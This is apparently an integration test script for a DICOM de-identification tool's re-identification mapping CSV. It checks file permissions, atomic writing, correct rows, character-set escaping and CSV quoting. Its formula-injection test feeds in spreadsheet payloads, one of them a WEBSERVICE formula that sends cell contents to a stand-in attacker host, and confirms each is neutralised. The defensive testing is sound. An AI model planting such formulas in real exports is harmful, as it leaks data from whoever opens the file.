#!/usr/bin/env bash
# dicomveil deidentify --mapping FILE (issue 5 item 13; docs/decisions.md "Re-identification crosswalk"):
# the CSV's header and fields, mode 0600, atomicity (written once at the end via a temp name: no partial file,
# not even when the run is killed), refusal inside DST / inside a SRC / onto the report or key, and rows that
# match the outputs actually written: ok rows name their file, duplicate rows name the file holding the same
# instance, failed and skipped inputs have no row; PatientID columns only when the config changed PatientID.
set -euo pipefail

# shellcheck source=tests/integration/cli_lib.sh
source "$(dirname "$0")/cli_lib.sh"
command -v dcmdump >/dev/null || { echo "FAIL: dcmdump (dcmtk) is required" >&2; exit 1; }

CT="$DATA/pydicom/CT_small.dcm"
MR="$DATA/pydicom/MR_small.dcm"
SRC="$T/src"
mkdir -p "$SRC/sub"
cp "$CT" "$SRC/a_ct.dcm"
cp "$MR" "$SRC/b_mr.dcm"
cp "$CT" "$SRC/sub/c_ct_again.dcm"                  # duplicate of a_ct
head -c 1000 "$MR" >"$SRC/d_truncated.dcm"          # fails
cp "$DATA/pydicom/dicomdir/DICOMDIR" "$SRC/e_DICOMDIR" # skipped
echo "not DICOM" >"$SRC/f_notes.txt"                 # skipped
head -c 32 /dev/urandom >"$T/key" && chmod 600 "$T/key"
echo '{"dicomTagConfig":{"profileType":"ATTRIBUTE_CONFIDENTIALITY_BASIC_PROFILE"}}' >"$T/basic.json"
echo '{"dicomTagConfig":{"profileType":"ATTRIBUTE_CONFIDENTIALITY_BASIC_PROFILE","actions":[{"queries":["PatientID"],"keepTag":{}}]}}' >"$T/keep_pid.json"
# The crosswalk is PHI: nothing of it (original UIDs, PatientIDs) may reach stdout or stderr.
for f in "$CT" "$MR"; do
    for kw in SOPInstanceUID StudyInstanceUID PatientID; do MUST_NOT_PRINT+=("$(tag "$f" "$kw")"); done
done

# ---- refusals: exit 2 and nothing written (no DST, no mapping) ----
mkdir -p "$T/existing_dst"
run 2 "mapping inside DST" deidentify --config "$T/basic.json" --key-file "$T/key" --mapping "$T/existing_dst/m.csv" \
    "$SRC" "$T/existing_dst"
[ -z "$(ls -A "$T/existing_dst")" ] || fail "mapping inside DST: something was written into DST"
grep -q "mapping" "$T/err" || fail "mapping inside DST: the message does not name --mapping"
run 2 "mapping inside a new DST" deidentify --config "$T/basic.json" --key-file "$T/key" \
    --mapping "$T/newdst/m.csv" "$SRC" "$T/newdst"
[ ! -e "$T/newdst" ] || fail "mapping inside a new DST: DST was created"
run 2 "mapping inside SRC" deidentify --config "$T/basic.json" --key-file "$T/key" --mapping "$SRC/sub/m.csv" \
    "$SRC" "$T/dst_refused"
[ ! -e "$SRC/sub/m.csv" ] && [ ! -e "$T/dst_refused" ] || fail "mapping inside SRC: something was written"
run 2 "mapping = report" deidentify --config "$T/basic.json" --key-file "$T/key" --mapping "$T/same" \
    --report "$T/same" "$SRC" "$T/dst_refused"
run 2 "mapping = key" deidentify --config "$T/basic.json" --key-file "$T/key" --mapping "$T/key" "$SRC" "$T/dst_refused"
[ ! -e "$T/same" ] && [ ! -e "$T/dst_refused" ] || fail "mapping refusals: something was written"
run 2 "mapping dir missing" deidentify --config "$T/basic.json" --key-file "$T/key" --mapping "$T/nodir/m.csv" \
    "$SRC" "$T/dst_refused"

# ---- a real run: 2 ok, 1 duplicate, 1 failed, 2 skipped -> exit 1 ----
echo "stale" >"$T/map.csv" # replaced whole, never appended to
run 1 "run" deidentify -q --jobs 2 --config "$T/basic.json" --key-file "$T/key" --report "$T/rep.json" \
    --mapping "$T/map.csv" "$SRC" "$T/dst"
[ "$(stat -c %a "$T/map.csv")" = 600 ] || fail "mapping mode is $(stat -c %a "$T/map.csv"), not 600"
ls "$T"/map.csv.tmp-* >/dev/null 2>&1 && fail "a mapping temp file was left behind"
python3 - "$T/map.csv" "$T/rep.json" "$T/dst" "$SRC" <<'PY' || fail "mapping content (see above)"
import csv, json, os, subprocess, sys
mp, rp, dst, src = sys.argv[1:5]
def tags(path):
    out = subprocess.run(["dcmdump", "-q", "+P", "StudyInstanceUID", "+P", "SeriesInstanceUID", "+P", "SOPInstanceUID",
                          "+P", "PatientID", path], capture_output=True, text=True).stdout
    vals = {}
    for line in out.splitlines():
        name = line.split("#")[-1].split()[-1]
        v = line.split("[", 1)[1].split("]", 1)[0] if "[" in line else ""
        vals.setdefault(name, v)
    return vals
bad = []
raw = open(mp, newline="").read()
header = raw.split("\n", 1)[0]
want = ("instance,status,original_study_uid,original_series_uid,original_sop_uid,study_uid,series_uid,sop_uid,"
        "original_patient_id,patient_id")
if header != want: bad.append("header is %r" % header)
if not raw.endswith("\n"): bad.append("the file does not end with a newline (partial?)")
rows = list(csv.DictReader(open(mp, newline="")))
rep = json.load(open(rp))["instances"]
expected = [str(i) for i, e in enumerate(rep) if e["status"] in ("ok", "duplicate")]
if [r["instance"] for r in rows] != expected:
    bad.append("rows %s, expected one per ok/duplicate input %s" % ([r["instance"] for r in rows], expected))
statuses = [e["status"] for e in rep]
if sorted(statuses) != sorted(["ok", "ok", "duplicate", "failed", "skipped", "skipped"]):
    bad.append("unexpected report statuses %s" % statuses)
for r in rows:
    e = rep[int(r["instance"])]
    if r["status"] != e["status"]: bad.append("row %s: status %s, report says %s" % (r["instance"], r["status"], e["status"]))
    out = os.path.join(dst, r["study_uid"], r["series_uid"], r["sop_uid"] + ".dcm")
    if not os.path.isfile(out):
        bad.append("row %s: no output file at its new UIDs" % r["instance"]); continue
    o, s = tags(out), tags(e["source"])
    for k in ("StudyInstanceUID", "SeriesInstanceUID", "SOPInstanceUID"):
        col = {"StudyInstanceUID": "study_uid", "SeriesInstanceUID": "series_uid", "SOPInstanceUID": "sop_uid"}[k]
        if o.get(k) != r[col]: bad.append("row %s: %s in the output is not the mapping's" % (r["instance"], k))
        if s.get(k) != r["original_" + col]: bad.append("row %s: original %s is not the source's" % (r["instance"], k))
    # Basic profile replaces PatientID: both columns filled, the new one as written.
    if r["original_patient_id"] != s.get("PatientID"): bad.append("row %s: original PatientID wrong" % r["instance"])
    if r["patient_id"] != o.get("PatientID", ""): bad.append("row %s: new PatientID is not the output's" % r["instance"])
    if not r["original_patient_id"] or r["original_patient_id"] == r["patient_id"]:
        bad.append("row %s: PatientID change not recorded" % r["instance"])
files = sorted(os.path.relpath(os.path.join(d, f), dst) for d, _, fs in os.walk(dst) for f in fs)
ok_files = sorted(os.path.join(r["study_uid"], r["series_uid"], r["sop_uid"] + ".dcm") for r in rows if r["status"] == "ok")
if files != ok_files: bad.append("DST holds %s, the ok rows name %s" % (files, ok_files))
dups = [r for r in rows if r["status"] == "duplicate"]
if len(dups) != 1 or dups[0]["sop_uid"] not in [r["sop_uid"] for r in rows if r["status"] == "ok"]:
    bad.append("the duplicate row does not name the output holding its instance")
for b in bad: print("FAIL:", b, file=sys.stderr)
sys.exit(1 if bad else 0)
PY

# The report never holds the crosswalk (the mapping is a separate, opt-in file).
for v in "${MUST_NOT_PRINT[@]}"; do grep -qF "$v" "$T/rep.json" && fail "the report holds an original identifier"; done

# ---- PatientID kept by the config: the PatientID columns stay empty ----
run 1 "keep PatientID" deidentify -q --config "$T/keep_pid.json" --key-file "$T/key" --mapping "$T/map2.csv" \
    "$SRC" "$T/dst2"
python3 - "$T/map2.csv" <<'PY' || fail "keep PatientID: PatientID columns must be empty"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
sys.exit(0 if rows and all(r["original_patient_id"] == "" and r["patient_id"] == "" and r["original_sop_uid"] for r in rows) else 1)
PY

# ---- a hostile PatientID (comma, quote, newline) round-trips through the CSV quoting ----
python3 - "$T/hostile.dcm" <<'PY'
import struct, sys
def el(g, e, vr, v):
    return struct.pack("<HH2sH", g, e, vr.encode(), len(v)) + v
def pad(b, c=b" "): return b + c if len(b) % 2 else b
sop = b"1.2.826.0.1.3680043.2.1125.60.1"
ds = (el(8, 0x16, "UI", pad(b"1.2.840.10008.5.1.4.1.1.7", b"\0")) + el(8, 0x18, "UI", pad(sop, b"\0"))
      + el(0x10, 0x20, "LO", pad(b'A,"B"\nC')) + el(0x20, 0xD, "UI", pad(b"1.2.3.4", b"\0")) + el(0x20, 0xE, "UI", pad(b"1.2.3.5", b"\0")))
open(sys.argv[1], "wb").write(ds)
PY
mkdir -p "$T/hsrc" && mv "$T/hostile.dcm" "$T/hsrc/"
run 0 "hostile PatientID" deidentify -q --config "$T/basic.json" --key-file "$T/key" --mapping "$T/map3.csv" \
    "$T/hsrc" "$T/dst3"
python3 - "$T/map3.csv" <<'PY' || fail "hostile PatientID: CSV quoting"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
sys.exit(0 if len(rows) == 1 and rows[0]["original_patient_id"] == 'A,"B"\nC' and rows[0]["original_study_uid"] == "1.2.3.4" else 1)
PY

# ---- mapping charsets: every field UTF-8, decoded with its instance's SpecificCharacterSet ----
# One PatientID stored in Latin-1 (ISO_IR 100) and in UTF-8 (ISO_IR 192) is one string; bytes a set does not
# define (Latin-1 without a SpecificCharacterSet, invalid UTF-8, a non-ASCII byte in a UID) are written as
# \xHH, a literal backslash as \\, so the stored bytes come back exactly.
python3 - "$T/csrc" <<'PY'
import os, struct, sys
def el(g, e, vr, v):
    return struct.pack("<HH2sH", g, e, vr.encode(), len(v)) + v
def pad(b, c=b" "): return b + c if len(b) % 2 else b
os.makedirs(sys.argv[1])
name = "Vrbnik\u00e9\u00df-4471902"
cases = [(b"ISO_IR 100", name.encode("latin-1"), b"1.2.3.4"), (b"ISO_IR 192", name.encode("utf-8"), b"1.2.3.4"),
         (None, b"M\xc9\\X", b"1.2.3.4"), (b"ISO_IR 192", b"AB\xff", b"1.2.3.4"), (None, b"P1", b"1.2.3.\xe9")]
for i, (cs, pid, study) in enumerate(cases):
    ds = el(8, 5, "CS", pad(cs)) if cs else b""
    ds += (el(8, 0x16, "UI", pad(b"1.2.840.10008.5.1.4.1.1.7", b"\0"))
           + el(8, 0x18, "UI", pad(b"1.2.826.0.1.3680043.2.1125.61.%d" % i, b"\0")) + el(0x10, 0x20, "LO", pad(pid))
           + el(0x20, 0xD, "UI", pad(study, b"\0")) + el(0x20, 0xE, "UI", pad(b"1.2.3.5", b"\0")))
    open(os.path.join(sys.argv[1], "c%d.dcm" % i), "wb").write(ds)
PY
run 0 "mapping charsets" deidentify -q --config "$T/basic.json" --key-file "$T/key" --mapping "$T/map4.csv" \
    "$T/csrc" "$T/dst4"
python3 - "$T/map4.csv" <<'PY' || fail "mapping charsets: the crosswalk is not UTF-8 decoded as documented"
import csv, io, re, sys
raw = open(sys.argv[1], "rb").read()
try:
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
except UnicodeDecodeError:
    print("FAIL: the mapping is not valid UTF-8", file=sys.stderr); sys.exit(1)
def unescape(f):  # the documented reading: \\ one backslash, \xHH the byte HH, else UTF-8 text
    return re.sub(rb"\\(\\|x([0-9A-F]{2}))", lambda m: b"\\" if m.group(1) == b"\\" else bytes([int(m.group(2), 16)]),
                  f.encode("utf-8"))
pid = [r["original_patient_id"] for r in sorted(rows, key=lambda r: int(r["instance"]))]
want = ["Vrbnik\u00e9\u00df-4471902", "Vrbnik\u00e9\u00df-4471902", "M\\xC9\\\\X", "AB\\xFF", "P1"]
bad = [] if pid == want else ["original_patient_id %r, expected %r" % (pid, want)]
if unescape(pid[2]) != b"M\xc9\\X" or unescape(pid[3]) != b"AB\xff": bad.append("escaped bytes do not round-trip")
study = [r["original_study_uid"] for r in rows if r["instance"] == "4"]
if study != ["1.2.3.\\xE9"]: bad.append("original_study_uid %r" % study)
for b in bad: print("FAIL:", b, file=sys.stderr)
sys.exit(1 if bad else 0)
PY

# ---- mapping formulas: a PatientID a spreadsheet would run as a formula opens as text ----
# First character = + - @ TAB CR (OWASP CSV injection), or ' itself: one leading ' and quotes; stripping one
# leading ' from any field that has one gives the value back. The column layout is unchanged.
python3 - "$T/fsrc" <<'PY'
import os, struct, sys
def el(g, e, vr, v):
    return struct.pack("<HH2sH", g, e, vr.encode(), len(v)) + v
def pad(b, c=b" "): return b + c if len(b) % 2 else b
os.makedirs(sys.argv[1])
vals = [b'=WEBSERVICE("http://attacker.example/?"&I3&J3)', b"@SUM(1+1)", b"+1+cmd", b"-2+3", b"\t=1", b"\r=2",
        b"'quoted", b"MRN4471902"]
for i, v in enumerate(vals):
    ds = (el(8, 0x16, "UI", pad(b"1.2.840.10008.5.1.4.1.1.7", b"\0"))
          + el(8, 0x18, "UI", pad(b"1.2.826.0.1.3680043.2.1125.62.%d" % i, b"\0")) + el(0x10, 0x20, "LO", pad(v))
          + el(0x20, 0xD, "UI", pad(b"1.2.3.4", b"\0")) + el(0x20, 0xE, "UI", pad(b"1.2.3.5", b"\0")))
    open(os.path.join(sys.argv[1], "f%d.dcm" % i), "wb").write(ds)
PY
run 0 "mapping formulas" deidentify -q --config "$T/basic.json" --key-file "$T/key" --mapping "$T/map5.csv" \
    "$T/fsrc" "$T/dst5"
python3 - "$T/map5.csv" <<'PY' || fail "mapping formulas: a formula is written live or not as documented"
import csv, sys
raw = open(sys.argv[1], newline="").read()
rows = sorted(csv.DictReader(open(sys.argv[1], newline="")), key=lambda r: int(r["instance"]))
want = ['=WEBSERVICE("http://attacker.example/?"&I3&J3)', "@SUM(1+1)", "+1+cmd", "-2+3", "\t=1", "\r=2", "'quoted",
        "MRN4471902"]
got = [r["original_patient_id"] for r in rows]
bad = []
if [g[1:] if g.startswith("'") else g for g in got] != want: bad.append("stripping one ' does not give %r" % got)
if [g.startswith("'") for g in got] != [True] * 7 + [False]: bad.append("guards %r" % got)
for line in raw.split("\n")[1:]:
    for lead in ("=", "+", "-", "@", "\t", "\r"):
        if ("," + lead) in line or ("," + '"' + lead) in line: bad.append("a field starts with %r" % lead)
if len(rows[0]) != 10: bad.append("the column layout changed")
for b in bad: print("FAIL:", b, file=sys.stderr)
sys.exit(1 if bad else 0)
PY

# ---- atomicity: a run killed midway leaves no mapping file and no temp file ----
# 600 distinct instances (600 outputs when the run completes; copies of two files would make only 2, and then
# "killed mid-run" below could never be false). The kill comes once the first output exists, and the test
# fails unless it landed mid-run: a run that finished first would prove nothing about atomicity.
NKILL=600
mkdir -p "$T/many"
gen_distinct "$T/many" "$NKILL"
# A run that finished before the kill (a disk with fast fsync) voids the attempt: up to 3, each from scratch.
for attempt in 1 2 3; do
    rm -rf "$T/dst_killed" "$T/killed.csv" "$T"/killed.csv.tmp-*
    "$DV_BIN" deidentify -q --jobs 1 --fsync --config "$T/basic.json" --key-file "$T/key" \
        --mapping "$T/killed.csv" "$T/many" "$T/dst_killed" 2>/dev/null &
    pid=$!
    for _ in $(seq 1 250); do
        [ -n "$(find "$T/dst_killed" -name '*.dcm' -print -quit 2>/dev/null)" ] && break
        sleep 0.02
    done
    kill -9 "$pid" 2>/dev/null || true
    wait "$pid" 2>/dev/null || true
    written=$(find "$T/dst_killed" -name '*.dcm' 2>/dev/null | wc -l)
    [ "$written" -lt "$NKILL" ] && break
done
if [ "$written" -ge "$NKILL" ]; then
    fail "killed run: 3 runs wrote all $written outputs before the kill (nothing was checked)"
else
    [ ! -e "$T/killed.csv" ] || fail "killed run: a mapping file exists after a kill mid-run ($written of $NKILL written)"
    ls "$T"/killed.csv.tmp-* >/dev/null 2>&1 &&
        fail "killed run: a mapping temp file exists while the run was still de-identifying"
fi

finish test_cli_mapping
